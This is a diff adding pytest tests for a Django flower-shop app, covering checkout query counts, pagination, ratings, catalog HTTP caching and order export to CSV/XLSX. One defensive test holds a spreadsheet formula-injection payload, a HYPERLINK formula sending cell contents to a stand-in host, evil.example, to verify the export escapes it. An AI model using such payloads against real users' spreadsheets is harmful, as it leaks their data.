@@ -1,13 +1,20 @@
+import csv
+import datetime
+import io
 import pytest
 import warnings
+from asgiref.sync import async_to_sync
+from django.core.management import call_command
 from django.urls import reverse
 from django.contrib.auth.models import User
 from django.utils import timezone
-from main.models import Product, Review, Cart, Order
+from main.models import Product, Review, Cart, Order, NotificationOutbox, DailySales
 from main.reports import generate_text_report
 from io import BytesIO
 from PIL import Image
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 
 # ---------------- Фикстуры (подготовка данных для тестов) ----------------
 
@@ -95,6 +102,167 @@ def test_delete_from_cart(client, authenticated_user, cart_item):
     assert response.status_code == 302
     assert not Cart.objects.filter(pk=cart_item.pk).exists()
 
+@pytest.mark.django_db
+def test_finalize_order_constant_queries(authenticated_user, create_product):
+    """Тест: оформление корзины из 20 товаров стоит столько же запросов, сколько из одного"""
+    user, client = authenticated_user
+    user.telegram_chat_id = "555"
+    user.save()
+
+    def checkout(size):
+        Cart.objects.bulk_create(
+            Cart(user=user, product=create_product, address=f"Адрес {i}") for i in range(size)
+        )
+        with CaptureQueriesContext(connection) as queries:
+            response = client.post(reverse("finalize_order"))
+        assert response.status_code == 302
+        return len(queries)
+
+    assert checkout(1) == checkout(20)
+    assert Order.objects.filter(user=user, products=create_product).count() == 21
+    assert not Cart.objects.filter(user=user).exists()
+    assert DailySales.objects.get(product=create_product).order_count == 21  # Сводка обновлена без сигналов
+    assert NotificationOutbox.objects.filter(chat_id="555").count() == 2  # По одному уведомлению на оформление
+
+@pytest.mark.django_db
+def test_user_orders_keyset_pages_constant_queries(authenticated_user, create_product, django_assert_num_queries):
+    """ "Мои заказы": фиксированное число запросов на страницу, страницы по (created_at, id) без пропусков"""
+    user, client = authenticated_user
+    orders = Order.objects.bulk_create(Order(user=user, total_price=1000, status="delivered") for _ in range(45))
+    Order.products.through.objects.bulk_create(
+        Order.products.through(order_id=order.id, product_id=create_product.id) for order in orders
+    )
+    Order.objects.filter(id__in=[order.id for order in orders[10:30]]).update(created_at=timezone.now())  # Одинаковое время
+
+    seen = []
+    url = reverse('user_orders')
+    client.get(url)  # Счетчик корзины попадает в кэш
+    while url:
+        with django_assert_num_queries(4):  # Сессия, пользователь, заказы с отзывами, букеты
+            response = client.get(url)
+        page = response.context['page']
+        seen += [order['order_id'] for order in response.context['orders']]
+        assert all(order['bouquet_name'] == create_product.name for order in response.context['orders'])
+        url = f"{reverse('user_orders')}?after={page.next_cursor}" if page.has_next else None
+
+    expected = list(Order.objects.filter(user=user).order_by('-created_at', '-id').values_list('id', flat=True))
+    assert seen == expected
+    assert client.get(reverse('user_orders') + "?after=broken").status_code == 302
+
+@pytest.mark.django_db
+def test_cart_badge_cached_and_invalidated(authenticated_user, create_product, cart_item, django_assert_num_queries):
+    """Счетчик корзины считается один раз и сбрасывается при изменении корзины"""
+    user, client = authenticated_user
+
+    assert client.get(reverse('profile')).context['cart_item_count'] == 1
+    with django_assert_num_queries(2):  # Только сессия и пользователь - COUNT не выполняется
+        client.get(reverse('profile'))
+
+    client.get(reverse('add_to_cart', args=[create_product.id]))
+    assert client.get(reverse('profile')).context['cart_item_count'] == 2
+
+    client.post(reverse('remove_from_cart', kwargs={'cart_item_id': cart_item.pk}))
+    assert client.get(reverse('profile')).context['cart_item_count'] == 1
+
+    client.get(reverse('finalize_order'))
+    assert client.get(reverse('profile')).context['cart_item_count'] == 0
+
+
+@pytest.mark.django_db
+def test_cart_badge_is_lazy(rf, user, cart_item, django_assert_num_queries):
+    """Если шаблон не выводит счетчик, запрос к корзине не выполняется"""
+    from main.context_processors import cart_item_count
+    request = rf.get('/')
+    request.user = user
+
+    with django_assert_num_queries(0):
+        context = cart_item_count(request)
+    assert context['cart_item_count'] == 1
+
+@pytest.mark.django_db
+def test_add_to_cart_accumulates_quantity(authenticated_user, create_product, django_assert_num_queries):
+    """Повторное добавление того же букета увеличивает количество одним UPDATE, а не плодит строки"""
+    user, client = authenticated_user
+    client.get(reverse('add_to_cart', args=[create_product.id]))
+
+    with django_assert_num_queries(4):  # Сессия, пользователь, товар, UPDATE количества
+        client.get(reverse('add_to_cart', args=[create_product.id]))
+
+    line = Cart.objects.get(user=user)
+    assert line.quantity == 2
+
+    client.post(reverse('remove_from_cart', kwargs={'cart_item_id': line.pk}))  # Удаляет один букет
+    line.refresh_from_db()
+    assert line.quantity == 1
+
+
+@pytest.mark.django_db
+def test_repeat_order_and_checkout_quantity(authenticated_user, create_order):
+    """Повтор заказа дважды дает одну строку на 2 букета, при оформлении - 2 отдельных заказа"""
+    user, client = authenticated_user
+    client.get(reverse('repeat_order', args=[create_order.id]))
+    client.get(reverse('repeat_order', args=[create_order.id]))
+
+    line = Cart.objects.get(user=user)
+    assert (line.quantity, line.address) == (2, create_order.address)
+
+    client.post(reverse('finalize_order'))
+    assert Order.objects.filter(user=user).count() == 3
+    assert not Cart.objects.filter(user=user).exists()
+
+
+@pytest.mark.django_db
+def test_confirm_order_merges_equal_lines(authenticated_user, create_product):
+    """Если после ввода адресов позиции совпали, они объединяются в одну"""
+    user, client = authenticated_user
+    first = Cart.objects.create(user=user, product=create_product, address="Старый адрес")
+    second = Cart.objects.create(user=user, product=create_product, quantity=2)
+
+    response = client.post(reverse('confirm_order'), {
+        f"address_{first.id}": "ул. Ленина, 1",
+        f"address_{second.id}": "ул. Ленина, 1",
+    })
+
+    assert response.status_code == 200
+    line = Cart.objects.get(user=user)
+    assert (line.address, line.quantity) == ("ул. Ленина, 1", 3)
+    assert response.context['total_price'] == create_product.price * 3
+
+@pytest.mark.django_db
+def test_confirm_order_constant_queries(authenticated_user, create_product):
+    """Подтверждение корзины из 20 позиций стоит столько же запросов, сколько из одной"""
+    user, client = authenticated_user
+
+    def confirm(size):
+        Cart.objects.filter(user=user).delete()
+        lines = Cart.objects.bulk_create(
+            Cart(user=user, product=create_product, address=f"Адрес {i}") for i in range(size)
+        )
+        data = {f"address_{line.id}": f"Новый адрес {line.id}" for line in lines}
+        data.update({f"card_text_{line.id}": "С днем рождения!" for line in lines})
+        with CaptureQueriesContext(connection) as queries:
+            response = client.post(reverse('confirm_order'), data)
+        assert response.status_code == 200
+        assert len(response.context['order_summary']) == size
+        return len(queries)
+
+    client.get(reverse('profile'))  # Счетчик корзины попадает в кэш и не влияет на подсчет
+    assert confirm(1) == confirm(20)
+    assert set(Cart.objects.filter(user=user).values_list('card_text', flat=True)) == {"С днем рождения!"}
+
+
+@pytest.mark.django_db
+def test_confirm_order_swapped_addresses(authenticated_user, create_product):
+    """Позиции, обменявшиеся адресами, сохраняются без ошибки уникальности"""
+    user, client = authenticated_user
+    first = Cart.objects.create(user=user, product=create_product, address="А")
+    second = Cart.objects.create(user=user, product=create_product, address="Б", quantity=2)
+
+    response = client.post(reverse('confirm_order'), {f"address_{first.id}": "Б", f"address_{second.id}": "А"})
+
+    assert response.status_code == 200
+    assert dict(Cart.objects.filter(user=user).values_list('address', 'quantity')) == {"Б": 1, "А": 2}
+
 # ---------------- Тесты отзывов ----------------
 
 @pytest.mark.django_db
@@ -106,6 +274,226 @@ def test_leave_review(client, authenticated_user, create_order):
     assert response.status_code == 302
     assert Review.objects.filter(user=user, order=order).exists()
 
+@pytest.fixture
+def reviewed_product(user, create_product):
+    """Букет с 25 отзывами разных пользователей с оценками 1..5"""
+    from django.contrib.auth.models import User as AuthUser
+    authors = AuthUser.objects.bulk_create(AuthUser(username=f"reviewer{i}") for i in range(25))
+    orders = Order.objects.bulk_create(Order(user=author, total_price=1000, status="delivered") for author in authors)
+    for i, (author, order) in enumerate(zip(authors, orders)):
+        Review.objects.create(user=author, product=create_product, order=order, rating=i % 5 + 1, text=f"Отзыв {i}")
+    return create_product
+
+@pytest.mark.django_db
+def test_rating_maintained_incrementally(reviewed_product):
+    """Средняя оценка и количество отзывов обновляются при добавлении, удалении и правке отзыва"""
+    reviewed_product.refresh_from_db()
+    assert (reviewed_product.rating_count, reviewed_product.rating_avg) == (25, 3.0)
+
+    Review.objects.filter(product=reviewed_product, rating=1).first().delete()
+    reviewed_product.refresh_from_db()
+    assert (reviewed_product.rating_count, reviewed_product.rating_sum) == (24, 74)
+    assert reviewed_product.rating_avg == pytest.approx(74 / 24)
+
+    review = Review.objects.filter(product=reviewed_product, rating=2).first()
+    review.rating = 5
+    review.save()
+    reviewed_product.refresh_from_db()
+    assert reviewed_product.rating_sum == 77
+
+    Review.objects.filter(product=reviewed_product).delete()
+    reviewed_product.refresh_from_db()
+    assert (reviewed_product.rating_count, reviewed_product.rating_avg) == (0, 0)
+
+@pytest.mark.django_db
+def test_rating_follows_review_moved_to_other_product(reviewed_product):
+    """Отзыв перенесли на другой букет (например, в админке) - оценка уходит из прежнего букета"""
+    other = Product.objects.create(name="Другой букет", price=500)
+    review = Review.objects.filter(product=reviewed_product, rating=5).first()
+    review.product = other
+    review.save()
+
+    reviewed_product.refresh_from_db()
+    other.refresh_from_db()
+    assert (reviewed_product.rating_count, reviewed_product.rating_sum) == (24, 70)
+    assert (other.rating_count, other.rating_sum, other.rating_avg) == (1, 5, 5.0)
+
+@pytest.mark.django_db
+def test_product_reviews_paginated_without_n_plus_one(client, reviewed_product, django_assert_num_queries):
+    """Страница букета: 10 отзывов на странице, авторы через JOIN, без COUNT по отзывам"""
+    url = reverse('product_detail', args=[reviewed_product.id])
+    with django_assert_num_queries(2):  # Букет и страница отзывов с авторами
+        response = client.get(url + "?page=3")
+    page = response.context['reviews']
+    assert len(page) == 5 and page.paginator.num_pages == 3
+    assert "reviewer" in response.content.decode()
+
+@pytest.mark.django_db
+def test_catalog_sorted_by_rating(client, reviewed_product, create_image):
+    """Каталог сортируется по рейтингу из полей букета"""
+    best = Product.objects.create(name="Лучший", price=500, image=create_image)
+    Product.objects.filter(pk=best.pk).update(rating_sum=9, rating_count=2, rating_avg=4.5)
+    Product.objects.create(name="Без отзывов", price=500, image=create_image)
+
+    products = list(client.get(reverse('catalog') + "?sort=rating").context['products'])
+    assert [product.name for product in products] == ["Лучший", reviewed_product.name, "Без отзывов"]
+
+# ---------------- Каталог: фильтр, сортировка, постраничный вывод ----------------
+
+@pytest.fixture
+def many_products(db):
+    """60 букетов с ценами 100..6000 и разной популярностью (bulk_create - без изображений на диске)"""
+    return Product.objects.bulk_create(
+        Product(name=f"Букет {i}", price=100 * i, sold_count=i % 7, image="products/bulk.jpg") for i in range(1, 61)
+    )
+
+def follow_catalog(client, query, django_assert_num_queries):
+    """Проходит каталог: первая страница, затем подгрузки catalog_more, пока есть продолжение"""
+    response = client.get(reverse('catalog'), query)
+    names = [product.name for product in response.context['products']]
+    next_query = response.context['next_query']
+    while next_query:
+        with django_assert_num_queries(1):  # Одна выборка по индексу, без COUNT и OFFSET
+            response = client.get(reverse('catalog_more') + "?" + next_query)
+        assert b"<html" not in response.content  # Только карточки
+        names += [product.name for product in response.context['products']]
+        next_query = response.context['next_query']
+    return names
+
+@pytest.mark.django_db
+def test_catalog_keyset_pages_with_price_filter(client, many_products, django_assert_num_queries):
+    """Фильтр по цене и сортировка сохраняются при подгрузке, букеты не теряются и не повторяются"""
+    names = follow_catalog(client, {'min_price': 1000, 'max_price': 5000, 'sort': '-price'}, django_assert_num_queries)
+    assert names == [f"Букет {i}" for i in range(50, 9, -1)]
+
+    assert follow_catalog(client, {}, django_assert_num_queries) == [f"Букет {i}" for i in range(1, 61)]
+
+@pytest.mark.django_db
+def test_catalog_sorted_by_popularity(client, many_products, django_assert_num_queries):
+    """Популярные: по числу продаж, при равенстве - новые выше"""
+    names = follow_catalog(client, {'sort': 'popular'}, django_assert_num_queries)
+    expected = sorted(many_products, key=lambda product: (product.sold_count, product.id), reverse=True)
+    assert names == [product.name for product in expected]
+
+@pytest.mark.django_db
+def test_catalog_bad_cursor_and_params(client, many_products):
+    """Поврежденный курсор: каталог начинается сначала, подгрузка - 400; ошибочный фильтр не применяется"""
+    assert client.get(reverse('catalog'), {'after': 'мусор'}).url == reverse('catalog')
+    assert client.get(reverse('catalog_more'), {'after': 'bad'}).status_code == 400
+
+    response = client.get(reverse('catalog'), {'min_price': 'abc', 'sort': 'unknown'})
+    assert response.status_code == 200
+    assert [product.name for product in response.context['products']][:2] == ["Букет 1", "Букет 2"]
+
+@pytest.mark.django_db
+def test_catalog_price_sort_uses_index(many_products, prefer_indexes):
+    """Сортировка по цене идет по индексу (price, id), без сортировки всей таблицы"""
+    plan = Product.objects.filter(price__gte=1000).order_by('price', 'id')[:25].explain()
+    assert "product_price_idx" in plan
+
+@pytest.mark.django_db
+def test_sold_count_follows_orders(authenticated_user, create_product):
+    """Оформление, изменение состава и удаление заказов меняют популярность букета"""
+    user, client = authenticated_user
+    Cart.objects.create(user=user, product=create_product, quantity=2)
+    client.post(reverse('finalize_order'))
+    create_product.refresh_from_db()
+    assert create_product.sold_count == 2
+
+    order = Order.objects.filter(user=user).first()
+    order.delete()
+    create_product.refresh_from_db()
+    assert create_product.sold_count == 1
+
+    extra = Order.objects.create(user=user, total_price=1500)
+    extra.products.add(create_product)
+    create_product.refresh_from_db()
+    assert create_product.sold_count == 2
+
+    extra.products.clear()
+    create_product.refresh_from_db()
+    assert create_product.sold_count == 1
+
+    # Счетчик разошелся с заказами (правка в обход сигналов) - команда пересчета восстанавливает его
+    Product.objects.filter(pk=create_product.pk).update(sold_count=100)
+    call_command("rebuild_daily_sales")
+    create_product.refresh_from_db()
+    assert create_product.sold_count == 1
+
+@pytest.mark.django_db
+def test_checkout_refreshes_popular_catalog(authenticated_user, many_products, django_capture_on_commit_callbacks):
+    """Оформление заказа меняет популярность - страница "Популярные" и ее ETag обновляются, остальные - нет"""
+    user, client = authenticated_user
+    url = reverse('catalog') + "?sort=popular"
+    response = client.get(url)
+    etag = response['ETag']
+    price_etag = client.get(reverse('catalog') + "?sort=price")['ETag']
+    assert list(response.context['products'])[0].name == "Букет 55"  # sold_count 6, самый новый из них
+
+    Cart.objects.create(user=user, product=many_products[0], quantity=7)
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(reverse('finalize_order'))
+
+    response = client.get(url, headers={'If-None-Match': etag})
+    assert response.status_code == 200
+    assert list(response.context['products'])[0].name == "Букет 1"
+    assert client.get(reverse('catalog') + "?sort=price", headers={'If-None-Match': price_etag}).status_code == 304
+
+# ---------------- HTTP-кэш каталога ----------------
+
+@pytest.mark.django_db
+def test_catalog_conditional_get_for_guests(client, create_product, django_assert_num_queries, django_capture_on_commit_callbacks):
+    """Гость получает ETag, повторный запрос - 304 или страницу из кэша без запросов к базе"""
+    response = client.get(reverse('catalog'))
+    assert response.status_code == 200
+    assert 'public' in response['Cache-Control']
+    etag = response['ETag']
+
+    with django_assert_num_queries(0):
+        assert client.get(reverse('catalog'), headers={'If-None-Match': etag}).status_code == 304
+        cached = client.get(reverse('catalog'))
+    assert cached.status_code == 200
+    assert create_product.name in cached.content.decode()
+
+    # Изменение букета меняет версию сразу после коммита - без ожидания срока жизни кэша.
+    # До коммита версия прежняя: иначе страница со старыми данными закэшировалась бы под новой версией
+    with django_capture_on_commit_callbacks(execute=True):
+        create_product.name = "Новое название"
+        create_product.save()
+        assert client.get(reverse('catalog'), headers={'If-None-Match': etag}).status_code == 304
+    response = client.get(reverse('catalog'), headers={'If-None-Match': etag})
+    assert response.status_code == 200
+    assert "Новое название" in response.content.decode()
+
+
+@pytest.mark.django_db
+def test_product_detail_cache_invalidated_by_review(client, create_order, create_product, django_capture_on_commit_callbacks):
+    """Новый отзыв сбрасывает кэш страницы букета"""
+    user = create_order.user
+    url = reverse('product_detail', args=[create_product.id])
+    client.logout()
+    etag = client.get(url)['ETag']
+
+    with django_capture_on_commit_callbacks(execute=True):
+        Review.objects.create(user=user, product=create_product, order=create_order, rating=5, text="Прекрасный букет")
+
+    response = client.get(url, headers={'If-None-Match': etag})
+    assert response.status_code == 200
+    assert "Прекрасный букет" in response.content.decode()
+
+
+@pytest.mark.django_db
+def test_catalog_private_for_users(authenticated_user, create_product):
+    """Вошедшему пользователю страница не кэшируется общими кэшами, а ETag учитывает корзину"""
+    user, client = authenticated_user
+    response = client.get(reverse('catalog'))
+    assert 'private' in response['Cache-Control']
+    etag = response['ETag']
+    assert client.get(reverse('catalog'), headers={'If-None-Match': etag}).status_code == 304
+
+    client.get(reverse('add_to_cart', args=[create_product.id]))
+    assert client.get(reverse('catalog'), headers={'If-None-Match': etag}).status_code == 200
+
 # ---------------- Админские отчёты ----------------
 
 @pytest.mark.django_db
@@ -127,3 +515,109 @@ def test_generate_text_report(db, admin_user):
     Order.objects.create(user=admin_user, total_price=3000, status="accepted", created_at=timezone.now())
     report = generate_text_report()
     assert "Количество заказов" in report
+
+@pytest.mark.django_db
+def test_generate_text_report_query_budget(django_assert_num_queries, admin_user, create_product):
+    """Тест: число запросов отчёта не зависит от количества заказов"""
+    for _ in range(10):
+        order = Order.objects.create(user=admin_user, total_price=1500, status="delivered")
+        order.products.set([create_product])
+
+    with django_assert_num_queries(4):
+        report = generate_text_report()
+
+    assert "Всего: 10" in report
+    assert f"{create_product.name}: 10 раз(а)" in report
+    assert "admin: 10 заказ(ов)" in report
+
+# ---------------- Выгрузка заказов ----------------
+
+@pytest.fixture
+def export_orders(admin_user, create_product):
+    """Заказы за 1-3 марта с разными статусами (created_at задаем UPDATE - auto_now_add его перезаписывает)"""
+    orders = []
+    for day, status in [(1, "delivered"), (2, "delivered"), (2, "accepted"), (3, "delivered")]:
+        order = Order.objects.create(user=admin_user, total_price=1500, status=status, address=f"Адрес {day}", card_text="С 8 марта; ура")
+        order.products.set([create_product])
+        created_at = timezone.make_aware(datetime.datetime(2026, 3, day, 23, 30))  # Поздний вечер по Москве = тот же день
+        Order.objects.filter(pk=order.pk).update(created_at=created_at)
+        orders.append(order)
+    return orders
+
+def read_csv(response):
+    content = b"".join(response.streaming_content).decode("utf-8")
+    assert content.startswith("﻿")  # BOM для Excel
+    return list(csv.reader(io.StringIO(content[1:]), delimiter=";"))
+
+@pytest.mark.django_db
+def test_export_orders_filters(client, admin_user, export_orders, create_product):
+    """Выгрузка за период (конечный день включительно) и по статусу"""
+    client.force_login(admin_user)
+    response = client.get(reverse("export_orders"), {"date_from": "2026-03-02", "date_to": "2026-03-03", "status": "delivered"})
+
+    assert response.streaming and response["Content-Type"].startswith("text/csv")
+    rows = read_csv(response)
+    assert rows[0][0] == "Номер заказа"
+    assert [int(row[0]) for row in rows[1:]] == [export_orders[1].id, export_orders[3].id]
+    assert rows[1][1:] == ["02.03.2026 23:30", "admin", create_product.name, "1500.00", "Доставлен", "Адрес 2", "С 8 марта; ура", ""]
+
+@pytest.mark.django_db
+def test_export_orders_escapes_formulas(client, admin_user, create_product):
+    """Текст покупателя, похожий на формулу, Excel должен показать как текст, а не выполнить"""
+    card_text = '=HYPERLINK("http://evil.example/?d="&A1;"Открыть")'
+    Order.objects.create(user=admin_user, total_price=1500, address="+7 999 000-00-00", card_text=card_text, signature="@Маша")
+    client.force_login(admin_user)
+
+    row = read_csv(client.get(reverse("export_orders")))[1]
+    assert row[6:] == ["'+7 999 000-00-00", "'" + card_text, "'@Маша"]
+    assert row[4] == "1500.00"
+
+@pytest.mark.django_db
+def test_export_orders_streams_with_fixed_queries(client, admin_user, export_orders, django_assert_num_queries):
+    """Заголовок уходит до запросов к базе, дальше - заказы и букеты порцией, независимо от их числа"""
+    client.force_login(admin_user)
+    response = client.get(reverse("export_orders"))
+    chunks = iter(response.streaming_content)
+
+    with django_assert_num_queries(0):
+        assert "Номер заказа" in next(chunks).decode()
+    with django_assert_num_queries(2):  # Заказы с пользователями и prefetch букетов
+        assert len(list(chunks)) == 4
+
+@pytest.mark.django_db
+def test_export_orders_streams_under_asgi(client, async_client, admin_user, export_orders):
+    """Под ASGI ответ - асинхронный итератор (иначе Django собрал бы весь файл в памяти), содержимое то же"""
+    client.force_login(admin_user)
+    async_client.force_login(admin_user)
+
+    async def download():
+        response = await async_client.get(reverse("export_orders"))
+        assert response.is_async
+        return b"".join([chunk async for chunk in response.streaming_content])
+
+    content = async_to_sync(download)()
+    assert content == b"".join(client.get(reverse("export_orders")).streaming_content)
+    assert content.decode("utf-8").count("\r\n") == 5  # Заголовок и четыре заказа
+
+@pytest.mark.django_db
+def test_export_orders_access_and_validation(client, admin_user, user):
+    """Выгрузка только для персонала; ошибочный период - 400"""
+    client.force_login(user)
+    assert client.get(reverse("export_orders")).status_code == 403
+
+    client.force_login(admin_user)
+    assert client.get(reverse("export_orders"), {"date_from": "2026-03-05", "date_to": "2026-03-01"}).status_code == 400
+    assert client.get(reverse("export_orders"), {"file_format": "pdf"}).status_code == 400
+
+@pytest.mark.django_db
+def test_export_orders_xlsx(client, admin_user, export_orders):
+    """XLSX - только если установлен openpyxl"""
+    openpyxl = pytest.importorskip("openpyxl")
+    Order.objects.filter(pk=export_orders[0].pk).update(card_text="=1+1")
+    client.force_login(admin_user)
+    response = client.get(reverse("export_orders"), {"file_format": "xlsx"})
+
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    assert workbook.active.max_row == 5
+    cell = workbook.active.cell(row=2, column=8)
+    assert (cell.value, cell.data_type) == ("=1+1", "s")  # Текст, а не формула